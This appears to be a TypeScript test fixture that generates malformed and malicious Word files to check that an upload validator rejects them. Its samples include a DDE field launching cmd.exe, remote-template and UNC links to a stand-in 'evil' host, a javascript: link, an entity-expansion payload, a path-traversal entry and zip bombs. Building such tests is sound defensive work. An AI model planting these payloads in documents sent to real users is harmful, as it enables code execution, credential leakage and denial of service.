import { makePdf, makePhoto } from '../photos.ts';
import type { HostileRow } from './hostile-row.ts';
import { makeWord, makeWordEntries, makeZip, relate } from './zips.ts';

const field = (...pieces: string[]) =>
  `<w:p>${pieces.map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`).join('')}</w:p>`;
const override = (name: string, type: string) => `<Override PartName="/word/${name}" ContentType="${type}"/>`;

async function insertBetween(): Promise<Buffer> {
  const file = await makeWord();
  const second = file.indexOf('PK\x03\x04', 4, 'latin1');
  const hidden = Buffer.from('of no part');
  const moved = Buffer.concat([file.subarray(0, second), hidden, file.subarray(second)]);
  const end = moved.lastIndexOf('PK\x05\x06', undefined, 'latin1');
  const list = moved.readUInt32LE(end + 16) + hidden.length;
  moved.writeUInt32LE(list, end + 16);
  for (let entry = list; entry < end; ) {
    const start = moved.readUInt32LE(entry + 42);
    if (start > 0) moved.writeUInt32LE(start + hidden.length, entry + 42);
    entry += 46 + moved.readUInt16LE(entry + 28) + moved.readUInt16LE(entry + 30) + moved.readUInt16LE(entry + 32);
  }
  return moved;
}

/** Replaces a name by one of the same length, wherever it occurs. */
async function rename(from: string, to: string, more: Record<string, string | Buffer>): Promise<Buffer> {
  const file = await makeWord({ more });
  return Buffer.from(file.toString('latin1').replaceAll(from, to), 'latin1');
}

async function locked(): Promise<Buffer> {
  const file = await makeWord();
  for (const [mark, place] of [
    ['PK\x01\x02', 8],
    ['PK\x03\x04', 6],
  ] as const) {
    for (let at = file.indexOf(mark, 0, 'latin1'); at !== -1; at = file.indexOf(mark, at + 4, 'latin1')) {
      file.writeUInt8((file[at + place] ?? 0) | 1, at + place);
    }
  }
  return file;
}

const entities = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>';

const words: [string, () => Buffer | Promise<Buffer>][] = [
  ['a valid Word document', () => makeWord({ relationships: relate('hyperlink', 'https://ncert.nic.in', true) })],
  ['a Word document with a picture', async () => makeWord({ more: { 'word/media/image1.png': await makePhoto('png') } })],
  [
    'a Word document with macros, renamed',
    () => makeWord({ mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
  ],
  [
    'a Word document with undeclared macros',
    () => makeWord({ more: { 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') } }),
  ],
  [
    'a Word document that refers to macros',
    () =>
      makeWord({
        relationships: `<Relationship Id="v" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.xml"/>`,
      }),
  ],
  [
    'a Word template',
    () => makeWord({ mainType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
  ],
  [
    'a Word document with an ActiveX control',
    () =>
      makeWord({
        types: override('activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
        more: { 'word/activeX1.xml': '<a/>' },
      }),
  ],
  [
    'a Word document with an OLE object',
    () =>
      makeWord({
        relationships: relate('oleObject', 'embeddings/oleObject1.bin'),
        more: { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') },
      }),
  ],
  [
    'a Word document with an Excel workbook in it',
    async () =>
      makeWord({
        relationships: relate('package', 'embeddings/a.xlsx'),
        more: { 'word/embeddings/a.xlsx': await makeZip({ a: 'a' }) },
      }),
  ],
  [
    'a Word document with a program named as a picture',
    () => makeWord({ more: { 'word/media/image1.png': Buffer.from('MZ\x90\0'.repeat(30), 'latin1') } }),
  ],
  ['a Word document with an archive in it', async () => makeWord({ more: { 'word/a.zip': await makeZip({ a: 'a' }) } })],
  [
    'a Word document with a template on another machine',
    () => makeWord({ relationships: relate('attachedTemplate', 'https://evil.example/a.dotm', true) }),
  ],
  [
    'a Word document whose template has two targets',
    () =>
      makeWord({
        relationships: relate('attachedTemplate', 'https://evil.example/a.dotm', true).replace(
          '/>',
          ' x:TargetMode="Internal" xmlns:x="y"/>',
        ),
      }),
  ],
  ['a Word document with a text named as a picture', () => makeWord({ more: { 'word/media/image1.png': '<w:document/>' } })],
  [
    'a Word document with a font that is read as its main text',
    () => makeWord({ types: override('a.odttf', 'application/xml'), more: { 'word/a.odttf': Buffer.alloc(90, 1) } }),
  ],
  [
    'a Word document with a picture on another machine',
    () => makeWord({ relationships: relate('image', 'file://evil/share/a.png', true) }),
  ],
  [
    'a Word document with a link to files on another machine',
    () => makeWord({ relationships: relate('hyperlink', '\\\\evil\\share', true) }),
  ],
  [
    'a Word document with a link that is a script',
    () => makeWord({ relationships: relate('hyperlink', 'javascript:alert(1)', true) }),
  ],
  [
    'a Word document with a web page in it',
    () => makeWord({ relationships: relate('aFChunk', 'a.xml'), more: { 'word/a.xml': '<a/>' } }),
  ],
  ['a Word document with a field that starts a program', () => makeWord({ body: field('DDE', 'AUTO c:\\cmd.exe "/k calc"') })],
  ['a Word document that declares entities', () => makeWord({ more: { 'word/a.xml': entities } })],
  ['a Word document with invalid XML', () => makeWord({ more: { 'word/a.xml': '<a><b></a>' } })],
  [
    'a Word document that unpacks to 210 MB',
    () => makeWord({ more: { 'word/media/image1.png': Buffer.alloc(210 * 1024 * 1024) } }),
  ],
  [
    'a Word document that unpacks to 300 MB of XML',
    () => makeWord({ more: { 'word/a.xml': Buffer.concat([Buffer.from('<a/>'), Buffer.alloc(300 * 1024 * 1024, ' ')]) } }),
  ],
  ['a Word document with other bytes after its end', async () => Buffer.concat([await makeWord(), Buffer.from('<script>')])],
  [
    'a Word document with other bytes before its start',
    async () => Buffer.concat([Buffer.from('PK\x03\x04junk', 'latin1'), await makeWord()]),
  ],
  ['a Word document with bytes between its parts', insertBetween],
  [
    'a Word document with two parts of the same name',
    () => rename('word/aaaaaaaa.xml', 'word/document.xml', { 'word/aaaaaaaa.xml': '<a/>' }),
  ],
  ['a Word document with a part outside its folder', () => rename('word/aaa.xml', '../../aaa.xm', { 'word/aaa.xml': '<a/>' })],
  ['a Word document with encrypted parts', locked],
  [
    'a Word document with a PDF at its start',
    async () => {
      const { '[Content_Types].xml': types = '', ...rest } = makeWordEntries();
      return makeZip({
        [`${makePdf(1).toString('latin1', 0, 40).replace(/\W/g, '')}.xml`]: '<a/>',
        '%PDF-1.4.xml': '<a/>',
        '[Content_Types].xml': types,
        ...rest,
      });
    },
  ],
  ['an archive named as a Word document', () => makeZip({ 'homework.txt': 'a' })],
  [
    'a program (JAR) named as a Word document',
    () => makeZip({ 'META-INF/MANIFEST.MF': 'Main-Class: A', 'A.class': Buffer.from('cafebabe', 'hex') }),
  ],
  ['an e-book (EPUB)', () => makeZip({ mimetype: 'application/epub+zip', 'a.xml': '<a/>' })],
];

/** Sent as type notes. */
export const hostileWords: HostileRow[] = words.map(([what, make]) => ({ what, name: 'notes.docx', type: 'notes', make }));
